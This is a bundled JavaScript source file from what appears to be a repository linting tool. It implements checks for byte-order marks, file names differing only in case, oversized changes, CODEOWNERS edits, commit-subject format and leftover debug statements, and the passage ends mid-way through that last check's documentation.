        const last = patterns.findLast((one) => (folder || !one.foldersOnly) && one.matches.test(part));
        if (last && !last.negated)
            return true;
        if (!folder)
            return false;
    }
}
function patternsOf(text) {
    let patterns = prettierignore_parsed.get(text);
    if (patterns === undefined) {
        patterns = text.split(/\r?\n/).flatMap((line) => toPattern(line.trim()) ?? []);
        prettierignore_parsed.set(text, patterns);
    }
    return patterns;
}
function toPattern(line) {
    if (line === '' || line.startsWith('#') || /^(?:\*\*\/)?\*?\.\w+$/.test(line))
        return undefined;
    const negated = line.startsWith('!');
    const glob = (negated ? line.slice(1) : line).replace(/^\\(?=[#!])/, '');
    const bare = glob.replace(/\/$/, '');
    const source = bare.replace(/^\//, '').replace(special, (part) => translated[part] ?? escaped(part));
    return {
        negated,
        foldersOnly: bare !== glob,
        matches: new RegExp(`^${bare.includes('/') ? '' : '(?:.*/)?'}${source}$`),
    };
}
const special = /^\*\*\/|\/\*\*\/|\/\*\*$|\*+|\?|\[!?[^\]/]+\]|\\?[^\w/-]/g;
const translated = {
    '**/': '(?:.*/)?',
    '/**/': '/(?:.*/)?',
    '/**': '/.*',
    '*': '[^/]*',
    '**': '[^/]*',
    '?': '[^/]',
};
function escaped(part) {
    if (part.length > 1 && part.startsWith('['))
        return part.replace('[!', '[^').replace(/\\/g, '\\\\');
    return `\\${part.at(-1)}`;
}

;// CONCATENATED MODULE: ./lib/modules/checks/text/meant.js


const headLength = 1000;
const mark = /@generated\b|\b(?:file|code|document|content)s?\s(?:(?:is|was|are|were|has been)\s)?(?:(?:auto(?:matically)?|procedurally|machine|code)[ -]?)?generated\b|\bauto-?generated (?:by|from|with|code|file)\b|^[^\w\n]*generated (?:by|from|with)\b|\bdo not (?:edit|modify)\b|^<mxfile\b/im;
const declarations = ['.editorconfig', '.prettierignore'];
function isUnkempt(file, read) {
    return (mark.test(file.buffer.toString('latin1', 0, Math.min(file.length, headLength))) ||
        isPrettierIgnored(file.path, read));
}
function declares(file, read, property, value) {
    return propertiesFor(file.path, read)[property] === value;
}

;// CONCATENATED MODULE: ./lib/modules/checks/byte-order-mark.js




const byteOrderMark = fileCheck({
    id: 'byte-order-mark',
    scope: 'file',
    summary: 'A UTF-8 byte-order mark at the start of a file',
    level: 'warning',
    facts: facts/* Fact */.d.byteOrderMark,
    except: file_type/* unkempt */.rV,
    reads: declarations,
    source: 'https://www.unicode.org/faq/utf_bom.html#bom5',
    docs: `UTF-8 needs no byte-order mark, and many readers do not expect one: a shebang line behind it is not
recognised, and JSON with it is invalid (RFC 8259, section 8.1). Formats whose own tools write the mark are left alone:
the project files of Visual Studio, PowerShell, and CSV for Excel. So are files whose head says that they are generated or that \`.prettierignore\` names,
and files that \`.editorconfig\` gives \`charset = utf-8-bom\`.`,
    examples: [
        {
            title: 'In front of code',
            files: { 'a.py': '\uFEFFx = 1\n' },
            findings: ['a.py:1'],
            fixed: { 'a.py': 'x = 1\n' },
        },
        {
            title: 'Declared to be meant',
            files: { '.editorconfig': '[*.txt]\ncharset = utf-8-bom\n', 'a.txt': '\uFEFFone\n' },
            findings: [],
        },
        { title: 'Written by Visual Studio', files: { 'a.csproj': '\uFEFF<Project />\n' }, findings: [] },
    ],
    run(file, report) {
        if (customary.test(file.path))
            return;
        const at = { offset: 0, length: 3 };
        report({
            message: 'The file begins with a byte-order mark',
            at,
            fix: { description: 'Remove it', edits: [{ ...at, text: '' }] },
        });
    },
    spares(file, _draft, read) {
        return isUnkempt(file, read) || declares(file, read, 'charset', 'utf-8-bom');
    },
});
const customary = /\.(?:sln|\w+proj|props|targets|resx|cs|vb|fs|cshtml|razor|xaml|config|rc|ps1|psm1|psd1|csv|nuspec|vsixmanifest)$/i;

;// CONCATENATED MODULE: ./lib/modules/checks/case-conflict.js

const caseConflict = treeCheck({
    id: 'case-conflict',
    scope: 'tree',
    summary: 'Names that differ in nothing but case',
    level: 'error',
    docs: `macOS and Windows cannot have both \`Readme.md\` and \`README.md\` in one folder: one of them overwrites the other
on checkout, and the clone is dirty from the start. Names of folders count too.`,
    examples: [
        { title: 'Two files', files: { 'README.md': 'a\n', 'Readme.md': 'b\n' }, findings: ['README.md', 'Readme.md'] },
        { title: 'Two folders', files: { 'Docs/a.md': 'a\n', 'docs/b.md': 'b\n' }, findings: ['Docs/a.md', 'docs/b.md'] },
        { title: 'The same name in two folders', files: { 'a/x': '1\n', 'b/X': '2\n' }, findings: [] },
    ],
    run(tree, report) {
        if (!mayClash(tree.entries))
            return;
        const known = new Map();
        const clashes = new Map();
        let lastFolder = '';
        for (const { path } of tree.entries) {
            const folder = path.slice(0, path.lastIndexOf('/') + 1);
            if (folder !== lastFolder)
                addFolders(folder, path, known, clashes);
            lastFolder = folder;
            add(path, path, known, clashes);
        }
        const candidates = clashes.size > 0 ? new Set(tree.candidates.map((entry) => entry.path)) : undefined;
        for (const [path, other] of [...clashes].sort(([a], [b]) => (a < b ? -1 : 1))) {
            if (candidates?.has(path))
                report(path, { message: `The name differs from ${other} in nothing but case` });
        }
    },
});
function mayClash(entries) {
    const folders = new Set();
    const folded = new Set();
    let lastFolder = '';
    for (const { path } of entries) {
        folded.add(path.toLowerCase());
        const folder = path.slice(0, path.lastIndexOf('/') + 1);
        if (folder === lastFolder)
            continue;
        lastFolder = folder;
        for (let end = folder.indexOf('/'); end >= 0; end = folder.indexOf('/', end + 1))
            folders.add(folder.slice(0, end + 1));
    }
    for (const folder of folders)
        folded.add(folder.toLowerCase());
    return folded.size < entries.length + folders.size;
}
function addFolders(folder, file, known, clashes) {
    for (let end = folder.indexOf('/'); end >= 0; end = folder.indexOf('/', end + 1)) {
        add(folder.slice(0, end + 1), file, known, clashes);
    }
}
function add(name, file, known, clashes) {
    const folded = name.toLowerCase();
    const first = known.get(folded);
    if (first === undefined) {
        known.set(folded, { name, file });
    }
    else if (first.name !== name) {
        if (!clashes.has(first.file))
            clashes.set(first.file, name);
        if (!clashes.has(file))
            clashes.set(file, first.name);
    }
}

;// CONCATENATED MODULE: ./lib/modules/checks/change/paths.js

const generatedName = /(?:\.min\.\w+|\.lockb?|\.lockfile|\.snap|\.pb\.(?:go|cc|h)|_pb2(?:_grpc)?\.pyi?|\.g\.(?:dart|cs)|\.designer\.cs|\.resolved|[._-]generated\.\w+)$/i;
const generatedFolder = /(?:^|\/)(?:__snapshots__|snapshots|generated|__generated__)\//i;
const vendored = /(?:^|\/)(?:vendor|vendored|third[_-]party|node_modules|bower_components|\.yarn|Pods|Carthage)\//;
const testFolder = /(?:^|\/)(?:tests?|\w+-tests?|__tests__|specs?|e2e|cypress|androidTest|(?:integration|unit|system)-?[Tt]ests?)\//;
const testName = /(?:[._-](?:test|spec|cy|e2e|test-d|tst)\.[cm]?[jt]sx?|_(?:test|spec)\.\w+|(?:^|\/)test_[^/]*\.py|(?:^|\/)(?:conftest|tests)\.py|(?:Tests?|TestCase|IT|Specs?)\.(?:java|kt|scala|groovy|cs|php|swift))$/;
const fixture = /(?:^|\/)(?:__fixtures__|[\w-]*fixtures?|__mocks__|mocks?|testdata|test[-_]data|__testdata__|__snapshots__|snapshots|goldens?|stubs?)\//i;
const example = /(?:^|\/)(?:examples?|samples?|demos?|docs?|documentation|tutorials?|playground|_*bench(?:mark)?s?_*)\//i;
function isGenerated(path) {
    return ((0,file_type/* fileTypes */.Ko)(path) & file_type/* FileType */.pt.generated) !== 0 || generatedName.test(path) || generatedFolder.test(path);
}
function isVendored(path) {
    return vendored.test(path);
}
function isFixture(path) {
    return fixture.test(path);
}
function isTest(path) {
    return testName.test(path) || testFolder.test(path);
}
function isExample(path) {
    return example.test(path);
}
function foldersUp(path) {
    const folders = [];
    for (let end = path.lastIndexOf('/'); end >= 0; end = path.lastIndexOf('/', end - 1))
        folders.push(path.slice(0, end + 1));
    folders.push('');
    return folders;
}

;// CONCATENATED MODULE: ./lib/modules/checks/change-size.js


const changeSize = changeCheck({
    scope: 'change',
    id: 'change-size',
    summary: 'A change that is too large to be read with care',
    level: 'note',
    docs: `The more lines a change has, the less of each is read. A change in several steps is reviewed sooner and better.

Added and removed lines count. Files that nobody reads do not: lock files, generated code, snapshots, minified bundles,
vendored folders, fixtures of tests, binary files. Neither do pure renames and deleted files.

Split the change: what can go in first (a refactoring, a new interface, a renaming) is a change of its own.`,
    source: 'https://google.github.io/eng-practices/review/developer/small-cls.html',
    options: {
        'max-lines': { type: 'integer', default: 1000, summary: 'Added and removed lines together; 0: no limit' },
        'max-files': { type: 'integer', default: 100, summary: 'Changed files; 0: no limit' },
    },
    examples: [
        {
            title: 'more lines than the limit',
            options: { 'max-lines': 3 },
            files: { 'a.txt': '1\n', 'b.txt': '1\n2\n3\n' },
            findings: ['b.txt'],
        },
        {
            title: 'more files than the limit',
            options: { 'max-files': 1 },
            files: { 'a.txt': '1\n', 'b.txt': '1\n2\n' },
            findings: ['b.txt'],
        },
        {
            title: 'lock files, snapshots and deleted files do not count',
            options: { 'max-lines': 3 },
            base: { 'old.txt': '1\n2\n3\n4\n5\n' },
            files: { 'yarn.lock': '1\n2\n3\n4\n', 'a.test.ts.snap': '1\n2\n3\n4\n', 'a.txt': '1\n2\n3\n' },
            findings: [],
        },
    ],
    run(change, report, options) {
        const files = change.files
            .filter(counts)
            .map(size)
            .sort((a, b) => b.lines - a.lines);
        const lines = files.reduce((sum, file) => sum + file.lines, 0);
        const tooLong = exceeds(lines, options['max-lines']);
        if (files[0] === undefined || (!tooLong && !exceeds(files.length, options['max-files'])))
            return;
        const limit = tooLong ? `${options['max-lines']} lines` : `${options['max-files']} files`;
        const largest = files.slice(0, 3).map((file) => `${file.path} (${file.lines})`);
        const where = `${files.length} ${files.length === 1 ? 'file' : 'files'}`;
        const message = `the change has ${lines} lines in ${where}, more than ${limit}; the largest: ${largest.join(', ')}`;
        report(files[0].path, { message });
    },
});
function exceeds(count, limit) {
    return limit > 0 && count > limit;
}
function counts({ path, status, hunks }) {
    if (status === 'deleted' || hunks.length === 0)
        return false;
    return !isGenerated(path) && !isVendored(path) && !isFixture(path);
}
function size({ path, hunks }) {
    return { path, lines: hunks.reduce((sum, hunk) => sum + hunk.baseCount + hunk.headCount, 0) };
}

;// CONCATENATED MODULE: ./lib/modules/checks/codeowners-change.js

const ownersFile = /^(?:\.github\/|docs\/|\.gitlab\/)?CODEOWNERS$/;
const codeownersChange = changeCheck({
    scope: 'change',
    id: 'codeowners-change',
    summary: 'The change alters who must approve changes',
    level: 'note',
    docs: `The rules in \`CODEOWNERS\` decide whose approval a change needs. A line in a long change can take a folder away
from its owners, so the change of the file is worth a look of its own.

The places where GitHub and GitLab look for the file count: the top, \`.github/\`, \`.gitlab/\` and \`docs/\`. Comments and
empty lines are left alone. A rule without an owner, which lets everybody approve, is a warning.

There is nothing to mend where the change is meant. To have it guarded, give \`CODEOWNERS\` an owner itself.`,
    source: 'https://docs.github.com/en/repositories/managing-your-repositorys-settings-and-features/customizing-your-repository/about-code-owners',
    examples: [
        {
            title: 'a new rule, and a path that nobody owns any more',
            base: { '.github/CODEOWNERS': '* @all\n' },
            files: { '.github/CODEOWNERS': '* @all\n/lib/ @lib\n/ci/\n' },
            findings: ['.github/CODEOWNERS:2', '.github/CODEOWNERS:3'],
        },
        {
            title: 'the file is gone',
            base: { CODEOWNERS: '* @all\n' },
            files: { 'a.txt': 'a\n' },
            findings: ['CODEOWNERS'],
        },
        {
            title: 'a comment, or a file of that name elsewhere',
            base: { CODEOWNERS: '* @all\n' },
            files: { CODEOWNERS: '# Everybody.\n\n* @all\n', 'test/CODEOWNERS': '* @all\n' },
            findings: [],
        },
    ],
    run(change, report) {
        for (const file of change.files) {
            const { path, status, hunks } = file;
            if (!ownersFile.test(path))
                continue;
            if (status === 'deleted') {
                report(path, { level: 'warning', message: 'the file is deleted: no owner is asked any more' });
                continue;
            }
            const rules = hunks.flatMap((hunk) => hunk.added.map((text, index) => ({ text, line: hunk.headStart + index })));
            const sections = /^\^?\[/m.test(change.text(file) ?? '');
            const added = rules.filter(({ text }) => isRule(text));
            const ownerless = sections ? [] : added.filter(({ text }) => /^\s*\S+\s*$/.test(text));
            const removing = hunks.find((hunk) => hunk.baseCount > hunk.headCount);
            const line = added[0]?.line ?? (removing === undefined ? undefined : Math.max(1, removing.headStart));
            if (line !== undefined && line !== ownerless[0]?.line)
                report(path, { line, message: 'the change alters who must approve changes' });
            for (const rule of ownerless)
                report(path, { line: rule.line, level: 'warning', message: 'this path has no owner: nobody is asked' });
        }
    },
});
function isRule(text) {
    return !/^\s*(?:$|#|\^?\[)/.test(text);
}

;// CONCATENATED MODULE: ./lib/modules/checks/commit-subject.js

const commit_subject_form = /^(?<type>[\p{L}\d_-]+)(?:\((?<scope>[^()\n]+)\))?!?: (?<text>\S.*)$/u;
const written = /^(?:Merge (?:branch|remote-tracking branch|pull request|tag|commit)|Revert "|Reapply "|Initial commit$)/;
const fixup = /^(?:fixup|squash|amend)! /;
const commitSubject = changeCheck({
    scope: 'change',
    id: 'commit-subject',
    summary: 'A commit whose subject does not follow Conventional Commits',
    level: 'warning',
    optIn: true,
    docs: `With subjects of one form, change logs and version numbers can be made by a program.

Each commit of the change is judged by its subject: \`type(scope): text\`, with an optional \`!\` for a breaking change.
Types are compared without regard to case, as the specification asks. Subjects that git writes itself (\`Merge branch\`,
\`Revert "…"\`) are left alone. A \`fixup!\` or \`squash!\` commit is reported, because it is to be folded into another one
before the change is merged; allow it where changes are squashed on merging.

Reword the commit: \`git rebase -i\`, or \`git commit --amend\` for the last one.`,
    source: 'https://www.conventionalcommits.org/en/v1.0.0/',
    options: {
        types: {
            type: 'strings',
            default: ['build', 'chore', 'ci', 'docs', 'feat', 'fix', 'perf', 'refactor', 'revert', 'style', 'test'],
            summary: 'The types that are allowed; empty: any',
        },
        scopes: { type: 'strings', default: [], summary: 'The scopes that are allowed; empty: any' },
        'max-length': { type: 'integer', default: 100, summary: 'Characters of a subject; 0: no limit' },
        'allow-fixups': { type: 'boolean', default: false, summary: 'Allow `fixup!`, `squash!` and `amend!` commits' },
    },
    examples: [
        { title: 'no type', subject: 'Add sums', files: { 'a.txt': 'a\n' }, findings: ['. form'] },
        { title: 'an unknown type', subject: 'feet(sum): add sums', files: { 'a.txt': 'a\n' }, findings: ['. type'] },
        {
            title: 'a scope that is not on the list',
            subject: 'feat(sums): add sums',
            options: { scopes: ['sum'] },
            files: { 'a.txt': 'a\n' },
            findings: ['. scope'],
        },
        {
            title: 'too long',
            subject: 'feat: add sums',
            options: { 'max-length': 10 },
            files: { 'a.txt': 'a\n' },
            findings: ['. length'],
        },
        {
            title: 'a commit that waits for its squash',
            subject: 'fixup! feat: add sums',
            files: { 'a.txt': 'a\n' },
            findings: ['. fixup'],
        },
        { title: 'a breaking change', subject: 'feat(sum)!: add sums', files: { 'a.txt': 'a\n' }, findings: [] },
        { title: 'a merge', subject: "Merge branch 'main' into sums", files: { 'a.txt': 'a\n' }, findings: [] },
    ],
    run(change, report, options) {
        const types = new Set(options.types.map((type) => type.toLowerCase()));
        const scopes = new Set(options.scopes);
        const judge = (subject) => {
            if (written.test(subject))
                return undefined;
            if (fixup.test(subject))
                return options['allow-fixups'] ? undefined : ['fixup', 'is to be squashed before the change is merged'];
            const { type, scope } = commit_subject_form.exec(subject)?.groups ?? {};
            if (type === undefined)
                return ['form', 'is not of the form `type(scope): text`'];
            if (types.size > 0 && !types.has(type.toLowerCase()))
                return ['type', `has the type \`${type}\`, not one of ${options.types.join(', ')}`];
            const unknown = scopes.size > 0 ? scope?.split(/\s*[,/]\s*/).find((name) => !scopes.has(name)) : undefined;
            if (unknown !== undefined)
                return ['scope', `has the scope \`${unknown}\`, not one of ${options.scopes.join(', ')}`];
            const length = [...subject].length;
            if (options['max-length'] > 0 && length > options['max-length'])
                return ['length', `has ${length} characters, more than ${options['max-length']}`];
            return undefined;
        };
        for (const { commit, subject } of change.subjects) {
            const verdict = judge(subject);
            if (verdict === undefined)
                continue;
            const [rule, problem] = verdict;
            report('.', { rule, message: `the subject of ${commit.slice(0, 10)} ${problem}: "${subject}"` });
        }
    },
});

;// CONCATENATED MODULE: ./lib/modules/checks/change/lex.js
const Kind = { code: 0, string: 1, comment: 2 };
function lexText(text, syntax) {
    const kinds = new Uint8Array(text.length);
    const starts = [0];
    for (let at = text.indexOf('\n'); at >= 0; at = text.indexOf('\n', at + 1))
        starts.push(at + 1);
    new Scanner(text, syntax, kinds).scan();
    const only = (line, kind) => {
        const start = starts[line - 1];
        if (start === undefined)
            return '';
        const end = (starts[line] ?? text.length + 1) - 1;
        let result = '';
        for (let at = start; at < end; at++)
            result += kinds[at] === kind ? text[at] : ' ';
        return result;
    };
    return {
        lines: starts.length,
        code: (line) => only(line, Kind.code),
        comment: (line) => only(line, Kind.comment),
        endsInString: (line) => {
            const end = (starts[line] ?? 0) - 1;
            return end > 0 && kinds[end] === Kind.string && kinds[end - 1] === Kind.string;
        },
    };
}
class Scanner {
    #text;
    #syntax;
    #kinds;
    #openers;
    #heredocs = [];
    #at = 0;
    constructor(text, syntax, kinds) {
        this.#text = text;
        this.#syntax = syntax;
        this.#kinds = kinds;
        const blocks = syntax.blockComments.map(([open]) => open);
        const strings = syntax.strings.map(({ open }) => open);
        this.#openers = new Set([...syntax.lineComments, ...blocks, ...strings, "'", '/', '<', '\\', '\n'].map((s) => s[0]));
    }
    scan() {
        while (this.#at < this.#text.length) {
            if (!this.#openers.has(this.#text[this.#at]) || !this.#open())
                this.#at++;
        }
    }
    #open() {
        const { blockComments, strings, escapes } = this.#syntax;
        if (this.#text[this.#at] === '\n' && this.#heredocs.length > 0)
            return this.#heredocBodies();
        for (const [open, close] of blockComments) {
            if (this.#text.startsWith(open, this.#at))
                return this.#mark(Kind.comment, this.#find(close, this.#at + open.length, close.length));
        }
        if (this.#beginsLineComment())
            return this.#mark(Kind.comment, this.#find('\n', this.#at, 0));
        for (const kind of strings)
            if (this.#text.startsWith(kind.open, this.#at))
                return this.#string(kind);
        if (escapes && this.#text[this.#at] === '\\')
            return this.#skip(2);
        return this.#beginsHeredoc() || this.#character() || this.#regex();
    }
    #beginsLineComment() {
        const { lineComments, blankBeforeComment } = this.#syntax;
        if (!lineComments.some((open) => this.#text.startsWith(open, this.#at)))
            return false;
        return !blankBeforeComment || this.#at === 0 || /\s/.test(this.#text[this.#at - 1]);
    }
    #beginsHeredoc() {
        const { heredoc } = this.#syntax;
        if (heredoc === undefined || this.#text[this.#at] !== '<')
            return false;
        heredoc.lastIndex = this.#at;
        const match = heredoc.exec(this.#text);
        if (match === null)
            return false;
        this.#heredocs.push(match[1]);
        return this.#skip(match[0].length);
    }
    #heredocBodies() {
        for (const name of this.#heredocs) {
            const end = new RegExp(`\\n[ \\t]*${name}\\b`, 'g');
            end.lastIndex = this.#at;
            const match = end.exec(this.#text);
            if (match === null)
                continue;
            this.#mark(Kind.string, match.index);
            this.#kinds[match.index] = Kind.string;
        }
        this.#heredocs = [];
        return this.#skip(1);
    }
    #string(kind) {
        const start = this.#at + kind.open.length;
        const end = this.#stringEnd(kind, start);
        this.#kinds.fill(Kind.string, start, end);
        this.#at = this.#text.startsWith(kind.close, end) ? end + kind.close.length : end;
        return true;
    }
    #stringEnd(kind, start) {
        const text = this.#text;
        for (let at = start; at < text.length; at++) {
            if (kind.escapes && text[at] === '\\')
                at++;
            else if (text.startsWith(kind.close, at))
                return at;
            else if (!kind.multiline && text[at] === '\n')
                return at;
            else if (kind.holes && text.startsWith('${', at))
                at = this.#holeEnd(kind, at + 2);
        }
        return text.length;
    }
    #holeEnd(kind, start) {
        const text = this.#text;
        let depth = 0;
        for (let at = start; at < text.length; at++) {
            if (text[at] === '{')
                depth++;
            else if (text[at] === '}' && depth-- === 0)
                return at;
            else if (text[at] === kind.open)
                at = this.#stringEnd(kind, at + 1);
            else if (text[at] === '"' || text[at] === "'") {
                const closed = text.indexOf(text[at], at + 1);
                if (closed > 0 && !text.slice(at, closed).includes('\n'))
                    at = closed;
            }
        }
        return text.length;
    }
    #character() {
        if (!this.#syntax.characters || this.#text[this.#at] !== "'")
            return false;
        const literal = /'(?:\\[^\n']*.|[^\\\n])'/uy;
        literal.lastIndex = this.#at;
        const match = literal.exec(this.#text);
        if (match === null)
            return false;
        this.#kinds.fill(Kind.string, this.#at + 1, this.#at + match[0].length - 1);
        return this.#skip(match[0].length);
    }
    #regex() {
        if (!this.#syntax.regexes || this.#text[this.#at] !== '/')
            return false;
        const before = this.#text.slice(Math.max(0, this.#at - 24), this.#at).trimEnd();
        if (!/(?:^|[=([{,;:!&|?+~<>]|\b(?:return|typeof|case|when|if|unless|and|or|in|of))$/.test(before))
            return false;
        const literal = /\/(?:\\.|\[(?:\\.|[^\]\\\n])*\]|[^/\\[\n])+\//y;
        literal.lastIndex = this.#at;
        const match = literal.exec(this.#text);
        if (match === null)
            return false;
        this.#kinds.fill(Kind.string, this.#at + 1, this.#at + match[0].length - 1);
        return this.#skip(match[0].length);
    }
    #find(what, from, plus) {
        const at = this.#text.indexOf(what, from);
        return at < 0 ? this.#text.length : at + plus;
    }
    #mark(kind, end) {
        this.#kinds.fill(kind, this.#at, end);
        this.#at = end;
        return true;
    }
    #skip(count) {
        this.#at += count;
        return true;
    }
}

;// CONCATENATED MODULE: ./lib/modules/checks/change/syntax.js
const quoted = (quote, multiline = false) => ({
    open: quote,
    close: quote,
    escapes: true,
    multiline,
});
const raw = (open, close = open) => ({ open, close, escapes: false, multiline: true });
const syntax_double = quoted('"');
const single = quoted("'");
const tripled = quoted('"""', true);
const template = { ...quoted('`', true), holes: true };
const slashes = { lineComments: ['//'], blockComments: [['/*', '*/']] };
const hash = { lineComments: ['#'], blockComments: [] };
const hashAfterBlank = { ...hash, blankBeforeComment: true, strings: [syntax_double, single] };
const dashes = { lineComments: ['--'], blockComments: [], strings: [syntax_double, single] };
const markup = { lineComments: [], blockComments: [['<!--', '-->']], strings: [] };
const component = {
    lineComments: ['//'],
    blockComments: [...markup.blockComments, ...slashes.blockComments],
    strings: [],
    blankBeforeComment: true,
};
const jvm = { ...slashes, strings: [tripled, syntax_double, single] };
const c = { ...slashes, language: 'c', strings: [syntax_double], characters: true };
const css = { ...slashes, language: 'css', lineComments: [], strings: [syntax_double, single] };
const javascript = { ...slashes, language: 'javascript', strings: [syntax_double, single, template], regexes: true };
const python = { ...hash, language: 'python', strings: [tripled, quoted("'''", true), syntax_double, single] };
const shell = {
    ...hashAfterBlank,
    language: 'shell',
    strings: [quoted('"', true), raw("'")],
    heredoc: /<<-?\s*\\?["']?([A-Za-z_]\w*)["']?/y,
    escapes: true,
};
const ruby = {
    ...hash,
    language: 'ruby',
    blockComments: [['\n=begin', '\n=end']],
    strings: [syntax_double, single, quoted('`')],
    regexes: true,
    heredoc: /<<(?:[~-]["'`]?|["'`]?(?=[A-Z]))([A-Za-z_]\w*)["'`]?/y,
};
const php = {
    ...slashes,
    language: 'php',
    lineComments: ['//', '# ', '#\n'],
    strings: [quoted('"', true), quoted("'", true)],
    heredoc: /<<<\s*["']?([A-Za-z_]\w*)["']?/y,
};
const rust = {
    ...slashes,
    language: 'rust',
    strings: [raw('r##"', '"##'), raw('r#"', '"#'), raw('r"', '"'), quoted('"', true)],
    characters: true,
};
const csharp = { ...slashes, language: 'csharp', strings: [tripled, raw('@"', '"'), syntax_double, single] };
const table = [
    ['js jsx mjs cjs ts tsx mts cts', javascript],
    ['vue svelte astro', { ...component, language: 'javascript' }],
    ['py pyi', python],
    ['rb rake gemspec', ruby],
    ['php', php],
    ['go', { ...slashes, language: 'go', strings: [syntax_double, single, raw('`')] }],
    ['rs', rust],
    ['java', { ...jvm, language: 'java' }],
    ['kt kts', { ...jvm, language: 'kotlin' }],
    ['scala sc', { ...jvm, language: 'scala', characters: true, strings: [tripled, syntax_double] }],
    ['groovy gradle', { ...jvm, language: 'groovy' }],
    ['cs', csharp],
    ['swift', { ...slashes, language: 'swift', strings: [tripled, syntax_double] }],
    ['dart', { ...slashes, language: 'dart', strings: [tripled, quoted("'''", true), syntax_double, single] }],
    ['c h cc cpp cxx hh hpp hxx m mm', c],
    ['proto', { ...slashes, language: 'proto', strings: [syntax_double, single] }],
    ['css', css],
    ['scss less', { ...css, lineComments: ['//'], blankBeforeComment: true }],
    ['sh bash zsh', shell],
    ['ex exs', { ...hash, language: 'elixir', strings: [tripled, syntax_double, single] }],
    ['yml yaml', { ...hashAfterBlank, language: 'yaml' }],
    ['toml', { ...hashAfterBlank, language: 'toml' }],
    [
        'tf hcl',
        { ...slashes, language: 'terraform', lineComments: ['#', '//'], strings: [syntax_double], heredoc: /<<-?([A-Z]\w*)/y },
    ],
    ['pl pm', { ...hashAfterBlank, language: 'perl' }],
    ['lua', { ...dashes, language: 'lua', blockComments: [['--[[', ']]']] }],
    ['sql', { ...dashes, language: 'sql', blockComments: [['/*', '*/']] }],
    ['hs', { ...dashes, language: 'haskell', blockComments: [['{-', '-}']] }],
    ['html htm xml', { ...markup, language: 'markup' }],
    ['mk', { ...hashAfterBlank, language: 'make', strings: [] }],
];
const byExtension = new Map(table.flatMap(([extensions, syntax]) => extensions.split(' ').map((e) => [e, syntax])));
const byName = new Map([
    ['Makefile', { ...hashAfterBlank, language: 'make', strings: [] }],
    ['Dockerfile', { ...hashAfterBlank, language: 'docker', strings: [] }],
    ['Gemfile', ruby],
    ['Rakefile', ruby],
    ['Jenkinsfile', { ...jvm, language: 'groovy' }],
]);
function syntaxOf(path) {
    const name = path.slice(path.lastIndexOf('/') + 1);
    const dot = name.lastIndexOf('.');
    return byName.get(name) ?? (dot < 0 ? undefined : byExtension.get(name.slice(dot + 1).toLowerCase()));
}

;// CONCATENATED MODULE: ./lib/modules/checks/change/added.js



const lexedFiles = new WeakMap();
function lexedFile(file, text, syntax) {
    const known = lexedFiles.get(file);
    if (known !== undefined)
        return known;
    const lexed = lexText(text, syntax);
    lexedFiles.set(file, lexed);
    return lexed;
}
function* addedLines(change, wanted, quick) {
    for (const file of change.files) {
        const { path } = file;
        const syntax = file.hunks.length === 0 || file.status === 'deleted' ? undefined : syntaxOf(path);
        if (syntax === undefined || isGenerated(path) || isVendored(path) || !wanted(path, syntax.language))
            continue;
        for (const { line, raw } of matching(file, quick)) {
            const text = change.text(file);
            if (text === undefined)
                break;
            yield { path, language: syntax.language, line, raw, text, lexed: lexedFile(file, text, syntax) };
        }
    }
}
function* matching(file, quick) {
    for (const { headStart, added } of file.hunks) {
        for (let index = 0; index < added.length; index++) {
            const raw = added[index];
            if (quick.test(raw))
                yield { line: headStart + index, raw };
        }
    }
}
function codeOfCall(lexed, line, column) {
    let code = lexed.code(line).slice(column);
    for (let next = line + 1; next < line + 8 && next <= lexed.lines && depth(code) > 0; next++)
        code += `\n${lexed.code(next)}`;
    return code;
}
function depth(code) {
    let open = 0;
    for (const c of code) {
        if (c === '(' || c === '[' || c === '{')
            open++;
        else if (c === ')' || c === ']' || c === '}')
            open--;
    }
    return open;
}

;// CONCATENATED MODULE: ./lib/modules/checks/debug-leftover.js



const marker = /^(?:(?:got |i am |i'm )?here\b|(?:testing|test|foo|bar|asdf\w*|qwe\w*|wtf|aa+|bb+|xx+|zz+)\W*\d*$|debug(?:ging)?\b|\d{1,4}\W*$|[-=*#!<>~]{3,}\s*(?:\w+\W*)?$)/i;
const debug_leftover_javascript = [
    { code: /(?<=^\s*|[;{}]\s*)debugger(?=\s*(?:;|\}|$))/ },
    { code: /(?<![\w$.])console\.(?:log|debug|info|warn|error)(?=\(\s*["'`])/, text: marker },
];
const patterns = {
    javascript: debug_leftover_javascript,
    python: [
        { code: /(?<=^\s*|[;:]\s*)breakpoint\(\)/ },
        { code: /(?<![\w.])(?:i?pdb|pudb|ipdb|wdb|rpdb)\.set_trace\(/ },
        { code: /(?<![\w.])print(?=\(f?["'])/, text: marker },
    ],
    ruby: [
        { code: /(?<![\w.:@])binding\.(?:pry|irb|b\b|break\b|remote_pry)/ },
        { code: /^\s*(?:byebug|debugger)(?=\s*(?:$|;|if\b|unless\b))/ },
        { code: /^\s*(?:p|puts)(?= ["'])/, text: marker },
    ],
    php: [{ code: /(?<![\w>:$\\]|function |fn |function &|new )\\?(?:var_dump|ddd?|xdebug_break)\((?!\.\.\.\))/ }],
    rust: [{ code: /(?<![\w:.])(?:std::)?dbg!\(/ }],
    go: [
        { code: /(?<![\w.])fmt\.Print(?:ln|f)?(?=\(\s*["`])/, text: marker },
        { code: /(?<![\w.])(?:spew\.Dump|runtime\.Breakpoint)\(/ },
    ],
    java: [{ code: /(?<![\w.])System\.(?:out|err)\.print(?:ln|f)?\(/ }],
    csharp: [{ code: /(?<![\w.])(?:System\.Diagnostics\.)?Debugger\.(?:Break|Launch)\(\)/ }],
    elixir: [{ code: /(?<![\w.])(?:require IEx|IEx\.pry)\b/ }],
};
const quick = /debugger|console\.|breakpoint|set_trace|print|binding\.|byebug|\bputs |\bp ["']|dump\(|dd\(|xdebug_break|dbg!|fmt\.P|spew|IEx|Debugger\./i;
const terminal = /(?:^|\/)(?:[^/]*(?:cli|cmd|command|console|shell|launcher|tools?|main)[^/]*)(?:\/|\.java$)/i;
const debugLeftover = changeCheck({
    scope: 'change',
    id: 'debug-leftover',
    summary: 'A break point or a print that was left behind',
    level: 'warning',
    docs: `A forgotten break point halts a program, or its tests in CI, for ever; a forgotten print clutters the output and
may show what nobody should see.

Only added lines of code are looked at, and only for what is hardly ever meant to stay: \`debugger\`, \`breakpoint()\`,
\`pdb.set_trace()\`, \`binding.pry\`, \`byebug\`, \`dd()\`, \`var_dump()\`, \`dbg!()\`, \`spew.Dump()\`, \`Debugger.Break()\`. A
print (\`console.log\`, \`print\`, \`puts\`, \`fmt.Println\`) is how many programs do their work, so it is reported only with
